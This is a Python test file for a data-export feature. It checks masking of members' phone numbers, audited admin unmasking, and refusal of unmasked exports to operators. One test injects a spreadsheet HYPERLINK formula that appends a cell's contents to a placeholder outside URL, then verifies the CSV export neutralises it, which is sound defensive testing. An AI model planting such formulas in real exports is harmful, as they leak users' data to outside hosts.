"""`reef export` and GET /api/v1/export: Chinese sheets, masked personal data unless unmasked by an admin."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from surface_fixtures import PASSWORD

openpyxl = pytest.importorskip("openpyxl")


def _store(db_path):
    from reef.store import open_store
    return open_store(db_path)


def _rows(book, sheet):
    ws = book[sheet]
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], r)) for r in values[1:]]


def test_workbook_has_chinese_sheets_and_masks_contact(db_path, tmp_path):
    from reef.export import export_tables

    out = tmp_path / "data.xlsx"
    result = export_tables(_store(db_path), out)
    assert result["masked"] is True
    book = openpyxl.load_workbook(out, read_only=True)
    assert {"成员", "成员概况", "每日活跃", "运营行动", "导入记录", "隔离数据"} <= set(book.sheetnames)
    evil = next(r for r in _rows(book, "成员") if r["member_id"] == "evil")
    assert evil["contact"] == "139****5678" and evil["name"].endswith("车主")
    assert len(_rows(book, "成员")) == 121


def test_unmasked_export_keeps_contact_and_is_audited(db_path, tmp_path):
    from reef.actions import audit_entries
    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "raw.xlsx", unmask=True, by="admin", role="admin")
    book = openpyxl.load_workbook(tmp_path / "raw.xlsx", read_only=True)
    assert next(r for r in _rows(book, "成员") if r["member_id"] == "evil")["contact"] == "13912345678"
    entry = audit_entries(store, action="export")["items"][0]
    assert entry["username"] == "admin" and '"unmask": true' in entry["details"]


def test_csv_is_utf8_with_bom_and_parquet_reads_back(db_path, tmp_path):
    import pyarrow.parquet as pq
    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "csv")
    raw = (tmp_path / "csv" / "members.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert next(r for r in rows if r["member_id"] == "evil")["contact"] == "139****5678"
    export_tables(store, tmp_path / "pq", fmt="parquet")
    table = pq.read_table(tmp_path / "pq" / "members.parquet")
    assert "13912345678" not in table.column("contact").to_pylist()


def test_code_columns_get_a_chinese_twin_in_the_workbook_and_csv_but_not_in_parquet(db_path, tmp_path):
    import pyarrow.parquet as pq
    from reef.export import export_tables

    store = _store(db_path)
    export_tables(store, tmp_path / "data.xlsx")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx", read_only=True)
    roles = {(r["role"], r["role_zh"]) for r in _rows(book, "关键节点")}
    assert roles and roles <= {("connector", "连接者"), ("broadcaster", "广播者"), ("member", "成员")}
    accounts = {(r["account_type"], r["account_type_zh"]) for r in _rows(book, "成员")}
    assert ("member", "成员") in accounts
    export_tables(store, tmp_path / "csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "operator_actions.csv").read_text(encoding="utf-8-sig"))))
    assert rows and all(r["status_zh"] in {"待办", "已完成", "已取消"} for r in rows)
    export_tables(store, tmp_path / "pq", fmt="parquet")
    assert "role_zh" not in pq.read_table(tmp_path / "pq" / "network_connectors.parquet").column_names


def test_cli_export_writes_the_workbook(db_path, tmp_path):
    from typer.testing import CliRunner
    from reef.cli import app

    r = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "d.xlsx"), "--db", str(db_path), "--json"])
    assert r.exit_code == 0, r.output
    assert '"masked": true' in r.output and (tmp_path / "d.xlsx").exists()


def test_cli_export_in_a_fresh_process_has_every_capability_sheet(db_path, tmp_path):
    # In-process tests have imported every capability already; a fresh `reef export` had only the six base sheets.
    import json
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    script = Path(sys.executable).with_name("reef")
    exe = str(script) if script.exists() else shutil.which("reef")
    if exe is None:
        pytest.skip("the reef script is not installed")
    done = subprocess.run([exe, "export", "--out", str(tmp_path / "d.xlsx"), "--db", str(db_path), "--json"],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    sheets = {s["sheet"] for s in json.loads(done.stdout)["sheets"]}
    assert {"成员", "阶梯", "风险", "关键节点", "知识缺口"} <= sheets


def test_csv_cells_that_look_like_formulas_stay_text(db_path, tmp_path):
    from reef.export import export_tables

    store = _store(db_path)
    formula = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    store.execute("UPDATE members SET name = ? WHERE member_id = 'evil'", [formula])
    export_tables(store, tmp_path / "csv", unmask=True)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "members.csv").read_text(encoding="utf-8-sig"))))
    assert next(r for r in rows if r["member_id"] == "evil")["name"] == "'" + formula


def test_http_export_masks_for_operators_and_refuses_unmask(client):
    client.post("/api/v1/login", json={"username": "operator", "password": PASSWORD})
    assert client.get("/api/v1/export?unmask=true").status_code == 403
    r = client.get("/api/v1/export?format=zip")
    assert r.status_code == 200
    text = zipfile.ZipFile(io.BytesIO(r.content)).read("members.csv").decode("utf-8-sig")
    assert "139****5678" in text and "13912345678" not in text
